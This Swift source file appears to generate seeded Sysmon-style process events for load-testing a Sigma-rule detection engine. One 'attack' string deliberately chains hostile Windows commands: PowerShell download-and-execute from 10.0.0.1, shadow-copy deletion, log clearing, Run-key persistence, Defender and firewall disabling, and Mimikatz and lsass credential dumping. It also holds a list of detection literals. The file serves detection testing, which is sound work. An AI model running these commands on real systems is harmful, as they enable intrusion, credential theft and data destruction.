import Foundation

/// SplitMix64: the same numbers for the same seed.
struct SeededGenerator: RandomNumberGenerator {
  var state: UInt64

  mutating func next() -> UInt64 {
    state &+= 0x9E37_79B9_7F4A_7C15
    var z = state
    z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
    z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
    return z ^ (z >> 31)
  }

  mutating func hexadecimal(_ digits: Int) -> String {
    var text = ""
    for _ in 0..<digits { text.append("0123456789ABCDEF".randomElement(using: &self)!) }
    return text
  }
}

/// Sysmon-like events, the same for the same seed.
enum GeneratedEvents: String, CaseIterable {
  /// Command lines and images repeat; hashes and GUIDs never do.
  case ordinary = "generated"
  /// No value comes twice.
  case unique = "worst_unique"
  /// Command lines of 32 KiB.
  case long = "worst_32KiB"
  /// Each event hits twenty rules of SigmaHQ and more; its values repeat, as those of the ordinary lane.
  case hits = "worst_20_hits"
  /// The same with command lines that never repeat: two worst cases at once.
  case newHits = "worst_20_new_hits"
  /// Values of one length that differ in the middle only: what a careless hash takes for one.
  case alike = "worst_alike"
  /// Command lines of about the ordinary lengths, made of the literals that most rules know and nothing else.
  case literals = "worst_literals"
  /// The same of 2 KiB: two worst cases at once.
  case longLiterals = "worst_long_literals"

  private static let processes = [
    ("Windows\\\\System32\\\\svchost.exe", "svchost.exe -k netsvcs -p"),
    ("Windows\\\\System32\\\\cmd.exe", "cmd.exe /c dir C:\\\\Users"),
    (
      "Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
      "powershell.exe -File C:\\\\Scripts\\\\list.ps1"
    ),
    (
      "Program Files\\\\Editor\\\\editor.exe", "\\\"C:\\\\Program Files\\\\Editor\\\\editor.exe\\\" notes.txt"
    ),
    ("Windows\\\\explorer.exe", "C:\\\\Windows\\\\explorer.exe"),
    ("Windows\\\\System32\\\\whoami.exe", "whoami /all"),
  ]

  /// Literals that hundreds of rules ask for.
  private static let common = [
    "powershell", "cmd.exe /c ", "\\\\AppData\\\\Local\\\\Temp\\\\", "http://", "rundll32.exe",
    "\\\\Users\\\\Public\\\\", " -enc ",
    "-w hidden ", "net user ", "reg add ", "schtasks /create ", "DownloadString(", "IEX ",
    "certutil -decode ", "wscript ",
    "vssadmin delete shadows ", "bitsadmin /transfer ", "mshta ", "regsvr32 /s ", "whoami /priv ",
  ]

  private static let attack =
    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1'); "
    + "vssadmin.exe delete shadows /all /quiet; wevtutil cl Security; reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\"
    + "CurrentVersion\\\\Run /v a /d C:\\\\Users\\\\Public\\\\a.exe; schtasks /create /tn a /tr mshta.exe; whoami /all; "
    + "net user evil Passw0rd /add; Add-MpPreference -ExclusionPath C:\\\\; rundll32 comsvcs.dll,MiniDump; "
    + "sekurlsa::logonpasswords lsadump::sam privilege::debug; Invoke-Mimikatz; procdump -ma lsass.exe -accepteula; "
    + "[Convert]::FromBase64String('SQBFAFgA'); Invoke-WebRequest http://10.0.0.1/b.exe -OutFile C:\\\\Users\\\\Public\\\\b.exe; "
    + "bcdedit /set {default} recoveryenabled no; Set-MpPreference -DisableRealtimeMonitoring $true; "
    + "netsh advfirewall set allprofiles state off; Get-ADUser -Filter *; Start-BitsTransfer http://10.0.0.1/c.exe; "
    + "Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender; Remove-Item ConsoleHost_history.txt; "
    + "cmd.exe /c echo a > \\\\\\\\.\\\\pipe\\\\b; sc config; ForEach-Object {[char]; .Replace('a','b'); "
    + "rundll32.exe keymgr.dll,KRShowKeyMgr"

  /// How many events a lane has: about 60 MB in any case.
  private var count: Int {
    switch self {
    case .long: 1500
    case .longLiterals: 20_000
    default: 100_000
    }
  }

  /// Writes the lane, unless it is there.
  func write(to file: URL) throws {
    if FileManager.default.fileExists(atPath: file.path()) { return }
    var random = SeededGenerator(state: 20_26)
    var text = ""
    for number in 0..<count { text += event(number, &random) }
    try Data(text.utf8).write(to: file)
  }

  private func event(_ number: Int, _ random: inout SeededGenerator) -> String {
    let (image, line) = GeneratedEvents.processes.randomElement(using: &random)!
    let parent = GeneratedEvents.processes.randomElement(using: &random)!.0
    let mark = self == .unique ? "\(number)\\\\" : ""
    let second = String(format: "%02d:%02d:%02d", number / 3600 % 24, number / 60 % 60, number % 60)
    return
      "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"host-\(number % 50)\","
      + "\"UtcTime\":\"2026-01-15 \(second).000\",\"ProcessGuid\":\"{\(random.hexadecimal(8))}\",\"ProcessId\":\(number),"
      + "\"Image\":\"C:\\\\\(mark)\(image)\",\"CommandLine\":\"\(commandLine(line, number, &random))\","
      + "\"ParentImage\":\"C:\\\\\(mark)\(parent)\",\"User\":\"CORP\\\\user\(self == .unique ? number : number % 20)\","
      + "\"IntegrityLevel\":\"Medium\",\"Hashes\":\"SHA256=\(random.hexadecimal(64))\"}\n"
  }

  private func commandLine(_ line: String, _ number: Int, _ random: inout SeededGenerator) -> String {
    switch self {
    case .ordinary: return line
    case .unique: return "\(line) --run \(random.hexadecimal(24))"
    case .long: return line + " " + random.hexadecimal(32_000)
    case .hits: return GeneratedEvents.attack + " \(number % 8)"
    case .newHits: return GeneratedEvents.attack + " \(number)"
    case .alike: return "C:\\\\tools\\\\collector.exe " + random.hexadecimal(24) + " --output C:\\\\data"
    case .literals, .longLiterals:
      return (0..<(self == .literals ? 16 : 160)).map { _ in
        GeneratedEvents.common.randomElement(using: &random)!
      }.joined()
    }
  }
}
